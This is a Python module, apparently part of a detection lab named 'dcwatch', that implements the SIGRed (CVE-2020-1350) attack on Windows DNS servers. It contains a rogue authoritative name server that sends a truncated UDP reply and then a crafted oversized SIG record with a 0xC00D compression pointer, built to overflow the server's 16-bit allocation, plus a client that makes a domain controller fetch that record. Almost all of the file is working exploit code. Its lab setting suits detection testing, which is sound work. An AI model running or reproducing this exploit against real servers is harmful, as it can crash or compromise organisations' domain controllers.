"""SIGRed (CVE-2020-1350) for the dcwatch lab, run inside a workstation namespace like
lab/attacks.py:

    ip netns exec dcw-ws1 /var/lib/dcwatch-lab/venv/bin/python -m lab.attacks_sigred STEP ...

Stdlib sockets only. ``evildns`` is the attacker's authoritative name server for its own domain
(UDP and TCP 53 on the workstation), built like the published proof of concept (Check Point's
write-up, chompie1337's evildns.py): a SIG query over UDP gets a truncated reply (TC bit, no
records), so the resolver retries over TCP, where the answer is one SIG record whose signer name
is the compression pointer 0xC00D: offset 13, the "9" of the question ``9.<domain>``, read as a
57-byte label that runs on through the header fields into the signature, where more labels
follow. The record fills a TCP message of close to 65535 bytes, so its size once the signer is
expanded passes 65535 (what overflows Windows' 16-bit allocation size). ``query`` is the
client that makes the DC's DNS server ask for it (``9.<domain>`` type SIG, as the PoC's
trigger). Every step prints one line per observable result.
"""

from __future__ import annotations

import argparse
import random
import socket
import struct
import sys
import threading
import time

DC_IP = "10.77.0.10"
QTYPE_SIG = 24  # RFC 2535 4.1
RCODE = {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 4: "NOTIMP", 5: "REFUSED"}
MAX_TCP_MESSAGE = 0xFFFF  # RFC 1035 4.2.2: two-byte length prefix


def out(msg: str) -> None:
    print(msg, flush=True)


def question_of(msg: bytes) -> tuple[bytes, int, int]:
    """The first question's encoded name (uncompressed), its type and its end offset."""
    off = 12
    while msg[off]:
        if msg[off] & 0xC0:
            raise ValueError("compressed question name")
        off += msg[off] + 1
    off += 1
    qtype = struct.unpack_from(">H", msg, off)[0]
    return msg[12:off], qtype, off + 4


def truncated_reply(query: bytes) -> bytes:
    """Header (QR, AA, TC, RD copied) and the question, no records: 'ask me over TCP'."""
    _qname, _qtype, end = question_of(query)
    flags = 0x8000 | 0x0400 | 0x0200 | (struct.unpack_from(">H", query, 2)[0] & 0x0100)
    return query[:2] + struct.pack(">HHHHH", flags, 1, 0, 0, 0) + query[12:end]


def sigred_response(query: bytes, size: int = MAX_TCP_MESSAGE) -> bytes:
    """The malicious answer: one SIG record with signer 0xC00D filling a ``size``-byte message.

    RFC 2535 4.1 SIG RDATA: type covered, algorithm, labels, original TTL, expiration,
    inception, key tag (18 bytes), signer's name, signature. The signer pointer lands on the
    question's "9" (0x39): a 57-byte label from offset 14, then length bytes placed in the
    signature (five 15-byte labels of 0xFF and the root), as the PoC lays them out.
    """
    qname, _qtype, end = question_of(query)
    if qname[:2] != b"\x019":
        raise ValueError("the question must be 9.<domain>")
    header = query[:2] + struct.pack(">HHHHH", 0x8400 | (struct.unpack_from(">H", query, 2)[0]
                                                         & 0x0100), 1, 1, 0, 0)
    question = query[12:end]
    fixed = struct.pack(">HBBIIIH", 1, 5, 0, 16, 0x6876A21F, 0x5D2CCA1F, 0x9E04)
    signer = b"\xc0\x0d"
    sig_off = 12 + len(question) + 12 + len(fixed) + len(signer)  # where the signature starts
    # the 57-byte label read from offset 14 ends at 14 + 57: the next length byte goes there
    pad = 14 + 0x39 - sig_off
    if pad < 0:
        raise ValueError("question too long for the 57-byte label")
    labels = b"\x00" * pad + (b"\x0f" + b"\xff" * 15) * 5 + b"\x00"
    room = size - (12 + len(question) + 12)  # RDATA that fits the message
    rdata = fixed + signer + labels
    rdata += bytes((i * 7 + 0x33) & 0xFF for i in range(room - len(rdata)))
    rr = b"\xc0\x0c" + struct.pack(">HHIH", QTYPE_SIG, 1, 16, len(rdata)) + rdata
    return header + question + rr


def expanded_signer_octets(msg: bytes, off: int) -> int:
    """Octets of the name at ``off`` with its compression pointers followed."""
    total = 0
    for _ in range(64):
        c = msg[off]
        if c & 0xC0 == 0xC0:
            off = (c & 0x3F) << 8 | msg[off + 1]
            continue
        total += c + 1
        if c == 0:
            return total
        off += c + 1
    raise ValueError("pointer loop")


# --------------------------------------------------------------------------- evil name server


def step_evildns(args) -> None:
    """Authoritative server for ``--domain``: UDP answers SIG queries truncated (TC), TCP
    answers them with the SIGRed record; other types get NXDOMAIN. Runs ``--seconds``, or
    until two seconds after its first SIGRed response."""
    deadline = [time.time() + args.seconds]

    def running() -> bool:
        return time.time() < deadline[0]

    counts = {"udp": 0, "tcp": 0}
    domain = args.domain.lower().rstrip(".")

    def ours(name: bytes) -> bool:
        text = b".".join(name[i + 1:i + 1 + name[i]] for i in _label_offsets(name))
        t = text.decode("ascii", "replace").lower()
        return t == domain or t.endswith("." + domain)

    def udp() -> None:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.bind((args.bind, 53))
        s.settimeout(0.5)
        while running():
            try:
                q, peer = s.recvfrom(4096)
            except TimeoutError:
                continue
            try:
                qname, qtype, end = question_of(q)
            except (ValueError, IndexError, struct.error):
                continue
            counts["udp"] += 1
            if ours(qname) and qtype == QTYPE_SIG:
                s.sendto(truncated_reply(q), peer)
                what = "truncated (TC)"
            else:
                flags = 0x8403 | (struct.unpack_from(">H", q, 2)[0] & 0x0100)
                s.sendto(q[:2] + struct.pack(">HHHHH", flags, 1, 0, 0, 0) + q[12:end], peer)
                what = "NXDOMAIN"
            out(f"evildns: UDP query from {peer[0]} type {qtype} -> {what}")
        s.close()

    def tcp() -> None:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind((args.bind, 53))
        s.listen(8)
        s.settimeout(0.5)
        while running():
            try:
                c, peer = s.accept()
            except TimeoutError:
                continue
            c.settimeout(5)
            try:
                buf = b""
                while len(buf) < 2 or len(buf) < 2 + struct.unpack(">H", buf[:2])[0]:
                    chunk = c.recv(65535)
                    if not chunk:
                        break
                    buf += chunk
                q = buf[2:]
                qname, qtype, _end = question_of(q)
                counts["tcp"] += 1
                if ours(qname) and qtype == QTYPE_SIG:
                    r = sigred_response(q, args.size)
                    rr = 12 + len(qname) + 4  # the answer: name pointer, type .. RDLENGTH
                    rdlen = struct.unpack_from(">H", r, rr + 10)[0]
                    expanded = rdlen - 2 + expanded_signer_octets(r, rr + 12 + 18)
                    c.sendall(struct.pack(">H", len(r)) + r)
                    deadline[0] = min(deadline[0], time.time() + 2)
                    out(f"evildns: TCP query from {peer[0]} type SIG -> SIGRed response "
                        f"({len(r)} bytes, SIG RDLENGTH {rdlen}, {expanded} bytes with the "
                        "signer expanded)")
                else:
                    out(f"evildns: TCP query from {peer[0]} type {qtype}: not answered")
            except (OSError, ValueError, IndexError, struct.error) as e:
                out(f"evildns: TCP connection from {peer[0]}: {e}")
            finally:
                c.close()
        s.close()

    threads = [threading.Thread(target=udp), threading.Thread(target=tcp)]
    for t in threads:
        t.start()
    out(f"evildns: serving {domain} on {args.bind} UDP/TCP 53 for {args.seconds:.0f} s")
    for t in threads:
        t.join()
    out(f"evildns: {counts['udp']} UDP and {counts['tcp']} TCP queries")


def _label_offsets(name: bytes) -> list[int]:
    offs, i = [], 0
    while i < len(name) and name[i]:
        offs.append(i)
        i += name[i] + 1
    return offs


# --------------------------------------------------------------------------- trigger


def encode_name(name: str) -> bytes:
    return b"".join(bytes([len(p)]) + p.encode() for p in name.rstrip(".").split(".")) + b"\0"


def step_query(args) -> None:
    """Ask the DC's DNS server (the workstation's resolver) for ``--name`` type SIG over UDP,
    as the PoC's trigger does; ``--tcp`` asks over TCP instead."""
    txid = random.getrandbits(16)
    msg = struct.pack(">HHHHHH", txid, 0x0100, 1, 0, 0, 0) + encode_name(args.name) + \
        struct.pack(">HH", QTYPE_SIG, 1)
    try:
        if args.tcp:
            with socket.create_connection((args.server, 53), timeout=args.timeout) as s:
                s.sendall(struct.pack(">H", len(msg)) + msg)
                r = s.recv(65535)[2:]
        else:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                s.settimeout(args.timeout)
                s.sendto(msg, (args.server, 53))
                r = s.recv(65535)
        rc = RCODE.get(r[3] & 0xF, str(r[3] & 0xF)) if len(r) >= 12 else "short reply"
        ans = struct.unpack_from(">H", r, 6)[0] if len(r) >= 12 else 0
        out(f"query {args.name} SIG via {'TCP' if args.tcp else 'UDP'} to {args.server}: "
            f"{rc}, {ans} answers, {len(r)} bytes")
    except OSError as e:
        out(f"query {args.name} SIG via {'TCP' if args.tcp else 'UDP'} to {args.server}: "
            f"no reply ({e})")


STEPS = {name[5:]: fn for name, fn in globals().items() if name.startswith("step_")}


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(prog="python -m lab.attacks_sigred")
    ap.add_argument("step", choices=sorted(STEPS))
    ap.add_argument("--domain", default="")
    ap.add_argument("--bind", default="10.77.0.21")
    ap.add_argument("--seconds", type=float, default=30)
    ap.add_argument("--size", type=int, default=MAX_TCP_MESSAGE)
    ap.add_argument("--name", default="")
    ap.add_argument("--server", default=DC_IP)
    ap.add_argument("--tcp", action="store_true")
    ap.add_argument("--timeout", type=float, default=10)
    args = ap.parse_args(argv)
    STEPS[args.step](args)
    return 0


if __name__ == "__main__":
    sys.exit(main())
